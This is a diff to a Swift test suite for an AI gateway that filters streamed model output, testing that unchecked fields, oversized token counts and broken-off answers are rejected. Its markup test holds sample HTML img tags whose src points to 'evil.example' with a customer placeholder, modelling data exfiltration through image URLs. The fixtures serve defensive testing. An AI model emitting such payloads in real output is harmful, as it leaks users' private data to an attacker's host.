@@ -17,11 +17,12 @@ import Testing
     let engine = try Self.engine.get()
     let checks = GatewayChecks(
       place: "http://127.0.0.1:1", draft: { draft, _ in engine.evaluate(draft, at: .now) },
-      output: { engine.evaluate($0, at: .now) })
+      output: { output, _ in engine.evaluate(output, at: .now) })
     return AnswerStream(
       ChoiceStream.Manner(
         restorer: Restorer(vault: vault),
-        check: AnswerCheck(checks: checks, tool: "office", task: task), holdsAll: holdsAll))
+        check: AnswerCheck(checks: checks, tool: "office", task: task), holdsAll: holdsAll),
+      model: "m")
   }
 
   private func chunk(_ delta: String, finish: String? = nil) -> String {
@@ -99,7 +100,7 @@ import Testing
   @Test(
     "a form that nobody can check ends the answer",
     arguments: [
-      #"{"secret_channel": "x"}"#, #"{"content": [1]}"#, #"{"content": {"text": "x"}}"#,
+      #"{"content": [1]}"#, #"{"content": {"text": "x"}}"#,
       #"{"tool_calls": [{"index": 0, "type": "function", "other": "x"}]}"#,
     ])
   func unknown(_ delta: String) async throws {
@@ -108,6 +109,79 @@ import Testing
       _ = try await stream.take(chunk(delta))
     }
     #expect(refusal?.code == .unknownAnswer)
+  }
+
+  @Test(
+    "nothing goes on that nobody checked: fields, names and numbers of the server",
+    arguments: [
+      #"{"choices": [{"index": 0, "delta": {"secret_channel": "SECRET", "content": "x"}}]}"#,
+      #"{"choices": [{"index": 0, "delta": {"role": "SECRET", "content": "x"}}]}"#,
+      #"{"id": "SECRET", "model": "SECRET", "choices": [{"index": 0, "delta": {"content": "x"}}]}"#,
+      #"{"choices": [{"index": 0, "delta": {"content": "x"}}], "usage": {"SECRET": 1, "total_tokens": 2}}"#,
+      #"{"choices": [{"index": 0, "delta": {"content": "x"}, "finish_reason": "SECRET"}]}"#,
+    ])
+  func dropped(_ data: String) async throws {
+    var stream = try stream()
+    let events = try await stream.take(data) + stream.take("[DONE]")
+    #expect(events.compactMap(Self.text) == ["x"])
+    #expect(!events.contains { $0.contains("SECRET") })
+  }
+
+  @Test("a long number is no count of tokens")
+  func counts() async throws {
+    var stream = try stream()
+    let usage = #""usage": {"prompt_tokens": 4111111111111111, "total_tokens": 7}"#
+    let events = try await stream.take(#"{"choices": [], \#(usage)}"#)
+    #expect(events.count == 1 && events[0].contains(#""total_tokens": 7"#))
+    #expect(!events[0].contains("4111"))
+  }
+
+  @Test("an empty piece behind the end changes nothing, a text there ends the answer")
+  func afterEnd() async throws {
+    var stream = try stream()
+    _ = try await stream.take(try content("x"))
+    _ = try await stream.take(chunk("{}", finish: "stop"))
+    #expect(try await stream.take(chunk(#"{"role": "assistant", "content": ""}"#)) == [])
+    let more = try content("more")
+    await #expect(throws: GatewayRefusal.self) { _ = try await stream.take(more) }
+  }
+
+  @Test("an answer that broke off is no whole one")
+  func brokenOff() async throws {
+    var stream = try stream()
+    _ = try await stream.take(try content("Half an ans"))
+    let refusal = await #expect(throws: GatewayRefusal.self) {
+      _ = try await stream.end(isComplete: false)
+    }
+    #expect(refusal?.code == .upstream)
+    var silent = try self.stream()
+    await #expect(throws: GatewayRefusal.self) { _ = try await silent.end(isComplete: true) }
+  }
+
+  @Test(
+    "nothing is put back into markup, however its quotation marks stand",
+    arguments: [
+      #"<p><img alt=a" b=">" src="https://evil.example/?q= [CUSTOMER_1]"> x"#,
+      #"<img alt=">" src="https://evil.example/?q= [CUSTOMER_1] "> x"#,
+      #"{"a": "<img src='https://evil.example/?q=", "b": "[CUSTOMER_1]", "c": "'>"}"#,
+    ])
+  func markup(_ text: String) async throws {
+    #expect(Restorer(vault: Self.vault).restored(text) == text)
+    let pieces = text.split(separator: " ", omittingEmptySubsequences: false).map { "\($0) " }
+    let (read, _) = try await read(pieces, try stream(Self.vault))
+    #expect(!read.contains("104233"))
+  }
+
+  @Test("a piece of a call without a number goes on with the last call")
+  func callsWithoutNumbers() async throws {
+    var stream = try stream()
+    for piece in [
+      #"{"tool_calls": [{"id": "call_1", "function": {"name": "f", "arguments": "{\"a\": \"PL"}}]}"#,
+      #"{"tool_calls": [{"function": {"arguments": "AN-x\"}"}}]}"#,
+    ] { _ = try await stream.take(chunk(piece)) }
+    await #expect(throws: GatewayRefusal.self) {
+      _ = try await stream.take(chunk("{}", finish: "tool_calls"))
+    }
   }
 
   @Test("calls of tools go on whole, with values put back as JSON")
@@ -148,11 +222,11 @@ import Testing
   func noEnd() async throws {
     var stream = try stream()
     _ = try await stream.take(try content("Half a sen"))
-    let events = try await stream.end()
+    let events = try await stream.end(isComplete: true)
     #expect(events.compactMap(Self.text) == ["Half a sen"])
     #expect(events.last == "[DONE]")
     var stopped = try self.stream()
     _ = try await stopped.take(try content("It is PLAN-heron"))
-    await #expect(throws: GatewayRefusal.self) { _ = try await stopped.end() }
+    await #expect(throws: GatewayRefusal.self) { _ = try await stopped.end(isComplete: true) }
   }
 }
